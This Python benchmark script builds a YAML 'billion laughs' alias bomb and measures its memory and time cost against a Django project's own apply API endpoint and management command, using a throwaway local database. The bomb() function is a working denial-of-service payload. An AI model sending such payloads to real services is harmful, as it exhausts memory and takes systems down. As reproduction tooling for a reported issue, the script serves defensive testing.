"""The YAML alias bomb of issue 22 against ``POST /api/v1/apply`` (a plain tenant member, Django's test client)
and ``manage.py apply --as`` (the same member): prints each answer's status, size and time, and the
process's peak RSS before and after.

    .venv/bin/python -m bench.manifest_bomb [--levels 8]

``--levels 8`` is the ~480-byte document whose expansion is 9**8 = 43 million strings (the attack run's
312 MB answer); each answer is measured in a fresh process so one peak does not hide the next. A throwaway
SQLite database in a temporary folder; nothing else is touched.
"""

from __future__ import annotations

import argparse
import json
import os
import resource
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any


def bomb(levels: int) -> str:
    """A manifest whose apiVersion is an alias nine times nine times ... wide: ``levels`` anchors deep."""
    names = "abcdefghijklmnopqrstuvwxyz"
    lines = [f'x{names[0]}: &{names[0]} ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, levels):
        prev = names[i - 1]
        lines.append(f"x{names[i]}: &{names[i]} [{','.join(['*' + prev] * 9)}]")
    lines.append(f"apiVersion: *{names[levels - 1]}")
    lines.append("kind: TokenEntitlement")
    lines.append("metadata: {name: boom}")
    return "\n".join(lines) + "\n"


def peak_rss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024  # kilobytes on Linux


def _setup(folder: str) -> Any:
    os.environ["DATABASE_URL"] = f"sqlite:///{folder}/bomb.sqlite3"
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "tokenpools_site.settings")
    import django

    django.setup()
    from django.contrib.auth import get_user_model
    from django.core.management import call_command

    from apps.tenancy.models import Membership, Role, Tenant

    call_command("migrate", verbosity=0)
    tenant = Tenant.objects.create(name="Acme", slug="acme")
    user = get_user_model().objects.create_user("mark", password="mark-pass-123")
    Membership.objects.create(tenant=tenant, user=user, role=Role.MEMBER)
    return user


def measure(how: str, levels: int) -> dict[str, Any]:
    """One attack in this process: ``how`` is rest or cli."""
    with tempfile.TemporaryDirectory() as folder:
        user = _setup(folder)
        text = bomb(levels)
        before = peak_rss_mb()
        start = time.perf_counter()
        if how == "rest":
            from rest_framework.test import APIClient

            client = APIClient()
            client.force_authenticate(user)
            response = client.post("/api/v1/apply", text, content_type="application/yaml")
            status, size = response.status_code, len(response.content)
        else:
            from django.core.management import call_command
            from django.core.management.base import CommandError

            path = Path(folder) / "bomb.yaml"
            path.write_text(text)
            try:
                call_command("apply", "-f", str(path), "--as", "mark")
                status, size = 0, 0
            except CommandError as exc:
                status, size = 1, len(str(exc).encode())
        elapsed = time.perf_counter() - start
        return {"attack": how, "bomb_bytes": len(text.encode()), "status": status, "answer_bytes": size,
                "seconds": round(elapsed, 3), "peak_rss_mb_before": round(before), "peak_rss_mb_after": round(peak_rss_mb())}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--levels", type=int, default=8)
    parser.add_argument("--one", choices=["rest", "cli"], help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.one:
        print(json.dumps(measure(args.one, args.levels)))
        return
    for how in ("rest", "cli"):
        out = subprocess.run([sys.executable, "-m", "bench.manifest_bomb", "--levels", str(args.levels), "--one", how],
                             capture_output=True, text=True, check=False)
        print(out.stdout.strip().splitlines()[-1] if out.stdout.strip() else f"{how}: failed: {out.stderr[-2000:]}")


if __name__ == "__main__":
    main()
